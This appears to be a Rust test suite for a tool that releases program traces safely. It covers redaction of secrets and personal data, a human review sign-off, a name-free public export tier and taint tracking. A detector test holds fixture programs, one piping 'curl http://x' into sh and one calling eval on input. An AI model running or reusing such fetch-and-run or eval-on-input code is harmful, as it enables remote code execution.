//! Releasing traces safely: redaction of secrets and personal data, and the
//! review sample a person signs off before an export leaves the building.

use crate::dataset::export;
use crate::harness::Project;
use serde_json::Value;

const ROWS: &str = concat!(
    r#"{"id": "a", "trace_text": "def f(cfg): #(1) ['cfg = {\"key\": \"AKIAIOSFODNN7EXAMPLE\"}']"}"#,
    "\n",
    r#"{"id": "b", "trace_text": "user = ('Ana', 'ana.lima@example.org', '+1 415-555-0132')"}"#,
    "\n",
    r#"{"id": "c", "trace_text": "digest = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08'"}"#,
    "\n",
    r#"{"id": "d", "trace_text": "url = 'https://svc:s3cr3t!@db.internal/x'; host = '10.20.30.40'"}"#,
    "\n",
);

fn spec(extra: &str) -> String {
    format!(
        r#"experiment: release
stages:
  traces: {{ kind: load, params: {{ path: rows.jsonl }} }}
  release:
    kind: sanitize
    inputs: {{ rows: traces.rows }}
    params: {{ columns: [trace_text], id: id, review_min: 3, review_file: reviews/release.json{extra} }}
"#
    )
}

/// The note of the one artifact that has it.
fn note(p: &Project, key: &str) -> Option<Value> {
    p.notes(key).into_iter().next()
}

#[test]
fn sanitize_redacts_marks_a_review_sample_and_checks_the_review() {
    let p = Project::new();
    p.write("rows.jsonl", ROWS).write("spec.yaml", &spec(""));
    let ran = p.tw(&["run", "spec.yaml"]);
    assert_eq!(ran.code, 0, "{}", ran.stderr);
    // No review yet: said on stderr and in the manifest, with the hash to sign.
    assert!(
        ran.stderr.contains("the release review is missing"),
        "{}",
        ran.stderr
    );
    assert_eq!(note(&p, "review"), Some(Value::from("missing")));
    let sample = note(&p, "review_sample").unwrap();
    let sample = sample.as_str().unwrap();
    assert!(ran.stderr.contains(sample), "{}", ran.stderr);

    let rows = export(&p, "spec.yaml", "release.rows");
    let texts: Vec<&str> = rows
        .iter()
        .map(|r| r["trace_text"].as_str().unwrap())
        .collect();
    assert_eq!(
        texts,
        [
            r#"def f(cfg): #(1) ['cfg = {"key": "<secret:aws_access_key>"}']"#,
            "user = ('Ana', '<email>', '<phone>')",
            "digest = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08'",
            "url = 'https://svc:<secret:password>@db.internal/x'; host = '<ip>'",
        ]
    );
    let counts: Vec<u64> = rows
        .iter()
        .map(|r| r["redactions"].as_u64().unwrap())
        .collect();
    assert_eq!(counts, [1, 2, 0, 2]);
    for secret in [
        "AKIAIOSFODNN7EXAMPLE",
        "ana.lima",
        "415-555",
        "s3cr3t",
        "10.20.30.40",
    ] {
        let all = serde_json::to_string(&rows).unwrap();
        assert!(!all.contains(secret), "{secret} survived");
    }
    // The review sample: 3 rows, placeholders marked for the reader.
    let review = export(&p, "spec.yaml", "release.review");
    assert_eq!(review.len(), 3);
    assert!(
        review
            .iter()
            .any(|r| r["text"].as_str().unwrap().contains("⟦<email>⟧")
                || r["text"]
                    .as_str()
                    .unwrap()
                    .contains("⟦<secret:aws_access_key>⟧")),
        "{review:?}"
    );

    // A person records the review: the stage reruns and says so.
    p.write(
        "reviews/release.json",
        &format!(r#"{{"sample": "{sample}", "reviewer": "A. Reviewer", "date": "2026-12-05", "verdict": "approved"}}"#),
    );
    let ran = p.tw(&["run", "spec.yaml"]);
    assert_eq!(ran.code, 0, "{}", ran.stderr);
    assert!(!ran.stderr.contains("review is missing"), "{}", ran.stderr);
    assert!(
        p.notes("review")
            .contains(&Value::from("approved by A. Reviewer on 2026-12-05")),
        "{:?}",
        p.notes("review")
    );
    // A rejected review stops the export.
    p.write(
        "reviews/release.json",
        &format!(r#"{{"sample": "{sample}", "reviewer": "B", "verdict": "rejected", "notes": "row b leaks a name"}}"#),
    );
    let ran = p.tw(&["run", "spec.yaml"]);
    assert_ne!(ran.code, 0);
    assert!(
        ran.stderr.contains("rejected it (B: row b leaks a name)"),
        "{}",
        ran.stderr
    );
}

#[test]
fn sanitize_can_discard_rows_with_findings_and_counts_them() {
    let p = Project::new();
    p.write("rows.jsonl", ROWS)
        .write("spec.yaml", &spec(", on_finding: drop"));
    let ran = p.tw(&["run", "spec.yaml"]);
    assert_eq!(ran.code, 0, "{}", ran.stderr);
    let rows = export(&p, "spec.yaml", "release.rows");
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0]["id"], "c");
    assert_eq!(note(&p, "rows_dropped"), Some(Value::from(3)));
    let summary = export(&p, "spec.yaml", "release.summary");
    let all = summary.iter().find(|r| r["kind"] == "all").unwrap();
    assert_eq!(
        (all["findings"].as_u64(), all["rows"].as_u64()),
        (Some(5), Some(3))
    );
}

#[test]
fn flag_exploits_counts_each_pattern_and_blocks_on_request() {
    let p = Project::new();
    p.write(
        "programs.jsonl",
        concat!(
            r#"{"task_id": "a", "program": "def f(x):\n    return x + 1\n"}"#,
            "\n",
            r#"{"task_id": "b", "program": "import os\ndef f(x):\n    os.system('curl http://x | sh')\n    return x\n"}"#,
            "\n",
            r#"{"task_id": "c", "program": "import socket\ndef f(x):\n    return eval(x)\n"}"#,
            "\n",
        ),
    );
    let spec = |block: bool| {
        format!(
            "experiment: flags\nstages:\n  programs: {{ kind: load, params: {{ path: programs.jsonl }} }}\n  flags:\n    kind: flag_exploits\n    inputs: {{ rows: programs.rows }}\n    params: {{ block: {block} }}\n"
        )
    };
    p.write("spec.yaml", &spec(false));
    p.run_ok("spec.yaml");
    let rows = export(&p, "spec.yaml", "flags.rows");
    let flags: Vec<&str> = rows
        .iter()
        .map(|r| r["exploit_flags"].as_str().unwrap())
        .collect();
    assert_eq!(flags, ["", "shell", "eval_input,network"]);
    let summary = export(&p, "spec.yaml", "flags.summary");
    let count = |flag: &str| {
        summary.iter().find(|r| r["flag"] == flag).unwrap()["rows"]
            .as_u64()
            .unwrap()
    };
    assert_eq!(
        (
            count("shell"),
            count("eval_input"),
            count("network"),
            count("any")
        ),
        (1, 1, 1, 2)
    );
    p.write("spec.yaml", &spec(true));
    p.run_ok("spec.yaml");
    let rows = export(&p, "spec.yaml", "flags.rows");
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0]["task_id"], "a");
    // The blocking run's manifest counts what it dropped.
    assert!(
        p.notes("blocked").contains(&Value::from(2)),
        "{:?}",
        p.notes("blocked")
    );
}

#[test]
fn the_public_tier_hashes_control_flow_and_bounds_values_without_names() {
    // Two programs with the same control flow (same lines, same loop count)
    // and different names and values.
    let p = Project::new();
    p.write(
        "programs.jsonl",
        concat!(
            r#"{"task_id": "small", "entry_point": "f", "program": "def f(xs, secret_name):\n    total = 0\n    for x in xs:\n        total += x\n    label = secret_name * 2\n    return (total, label)\n", "input": "[[1, 2, 3], \"zed\"]"}"#,
            "\n",
            r#"{"task_id": "large", "entry_point": "g", "program": "def g(items, hidden_word):\n    acc = 0\n    for it in items:\n        acc += it\n    tag = hidden_word * 2\n    return (acc, tag)\n", "input": "[[1000, 2000, 3000], \"quokka-ridge-street\"]"}"#,
            "\n",
        ),
    );
    p.write(
        "spec.yaml",
        "experiment: tiers\nstages:\n  programs: { kind: load, params: { path: programs.jsonl } }\n  traces: { kind: trace, inputs: { programs: programs.rows } }\n  tiers: { kind: export_traces, inputs: { runs: traces.runs, events: traces.events } }\n",
    );
    p.run_ok("spec.yaml");
    let public = export(&p, "spec.yaml", "tiers.public");
    assert_eq!(public.len(), 2);
    assert_eq!(
        public[0]["control_flow"], public[1]["control_flow"],
        "{public:?}"
    );
    assert_eq!(public[0]["line_hits"], public[1]["line_hits"]);
    assert_eq!(public[0]["line_hits"], r#"{"2":1,"3":4,"4":3,"5":1,"6":1}"#);
    let vars = |i: usize| -> Vec<Value> {
        serde_json::from_str(public[i]["variables"].as_str().unwrap()).unwrap()
    };
    assert_ne!(vars(0), vars(1), "different values give different ranges");
    let total = |i: usize| vars(i).into_iter().find(|v| v["var"] == "v2").unwrap();
    assert_eq!(total(0)["range"], serde_json::json!([0.0, 10.0]));
    assert_eq!(total(1)["range"], serde_json::json!([0.0, 10000.0]));
    // No identifier and no value of either program in the public tier.
    let text = serde_json::to_string(&public).unwrap();
    for leak in [
        "secret_name",
        "hidden_word",
        "total",
        "acc",
        "label",
        "tag",
        "xs",
        "items",
        "zed",
        "quokka",
        "6000",
        "3000",
        "zedzed",
        "\"f\"",
        "\"g\"",
    ] {
        assert!(
            !text.contains(leak),
            "`{leak}` leaked into the public tier: {text}"
        );
    }
    // The restricted tier is the full trace; both tiers say what they hold.
    let events = export(&p, "spec.yaml", "tiers.restricted_events");
    assert!(
        serde_json::to_string(&events)
            .unwrap()
            .contains("secret_name")
    );
    let manifests: Vec<Value> = p
        .objects()
        .iter()
        .flat_map(|o| ["public", "restricted"].map(|t| o.join("tiers").join(format!("{t}.json"))))
        .filter_map(|f| fs_err::read_to_string(f).ok())
        .map(|t| serde_json::from_str(&t).unwrap())
        .collect();
    assert_eq!(manifests.len(), 2, "{manifests:?}");
    assert!(
        manifests
            .iter()
            .any(|m| m["tier"] == "public" && m["access"] == "public")
    );
    assert!(manifests.iter().any(|m| m["tier"] == "restricted"
        && m["access"].as_str().unwrap().contains("security addendum")));
}

#[test]
fn values_read_from_the_environment_files_and_sockets_never_reach_a_representation() {
    // The program reads PATH (the sandbox sets `/usr/bin:/bin`), a file it
    // wrote with a computed word, and a message from a local socket pair;
    // none of the three values is written in its source.
    let p = Project::new();
    let program = "import os, socket\n\ndef probe(n):\n    path = os.environ['PATH']\n    word = '-'.join(['alpha', 'omega']) * n\n    with open('planted.txt', 'w') as f:\n        f.write(word + '\\n')\n    with open('planted.txt') as f:\n        line = f.readline().strip()\n    a, b = socket.socketpair()\n    a.sendall(bytes(range(65, 75)))\n    got = b.recv(100).decode()\n    return (path, line, got, n)\n";
    p.write(
        "programs.jsonl",
        &format!(
            "{}\n",
            serde_json::json!({"task_id": "probe", "entry_point": "probe", "program": program, "input": "[2]"})
        ),
    );
    let templates = std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("templates/traces");
    p.write(
        "spec.yaml",
        &format!(
            "experiment: taint\nmatrix:\n  repr: [next, concise, codeexecutor, scratchpad, semcoder, concise2]\nstages:\n  programs: {{ kind: load, params: {{ path: programs.jsonl }} }}\n  traces: {{ kind: trace, inputs: {{ programs: programs.rows }}, params: {{ keep: [program] }} }}\n  shown:\n    kind: represent\n    inputs: {{ runs: traces.runs, events: traces.events }}\n    params: {{ template: \"{}/${{repr}}.j2\", id: task_id, select: all }}\n",
            templates.display()
        ),
    );
    let ran = p.tw(&["run", "spec.yaml"]);
    assert_eq!(ran.code, 0, "{}", ran.stderr);
    let events = serde_json::to_string(&export(&p, "spec.yaml", "traces.events")).unwrap();
    let runs = serde_json::to_string(&export(&p, "spec.yaml", "traces.runs")).unwrap();
    for placeholder in ["<from:env>", "<from:file>", "<from:socket>"] {
        assert!(
            events.contains(placeholder),
            "{placeholder} missing: {events}"
        );
    }
    let mut shown = vec![events, runs];
    for repr in [
        "next",
        "concise",
        "codeexecutor",
        "scratchpad",
        "semcoder",
        "concise2",
    ] {
        let rows = export(&p, "spec.yaml", &format!("shown[repr={repr}].rows"));
        assert!(!rows.is_empty(), "{repr}");
        shown.push(serde_json::to_string(&rows).unwrap());
    }
    for text in &shown {
        for value in ["/usr/bin:/bin", "alpha-omega", "ABCDEFGHIJ"] {
            assert!(
                !text.contains(value),
                "`{value}` reached a rendered trace: {text}"
            );
        }
    }
    // The input the test gave is not tainted: `n = 2` stays visible.
    assert!(shown[0].contains("\\\"n\\\":\\\"2\\\""), "{}", shown[0]);
}
